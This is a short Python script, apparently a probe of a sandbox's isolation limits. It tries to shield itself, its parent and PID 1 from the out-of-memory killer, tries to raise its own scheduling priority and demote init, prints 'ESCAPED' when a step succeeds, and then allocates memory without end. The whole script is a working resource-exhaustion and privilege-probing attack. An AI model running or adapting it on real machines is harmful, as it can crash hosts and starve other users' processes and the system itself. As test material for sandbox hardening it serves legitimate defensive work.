import ctypes
import os

for process in ("self", str(os.getppid()), "1"):
    try:
        with open(f"/proc/{process}/oom_score_adj", "w") as file:
            file.write("-1000")
        print("ESCAPED: oom_score_adj of", process)
    except OSError:
        pass
for way in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)), lambda: os.setpriority(os.PRIO_PROCESS, 1, 19)):
    try:
        before = os.nice(0)
        way()
        if os.nice(0) < before:
            print("ESCAPED: more urgent")
    except OSError:
        pass
print("attack ran", flush=True)
hoard = []
while True:
    hoard.append(bytearray(os.urandom(1) * (16 << 20)))
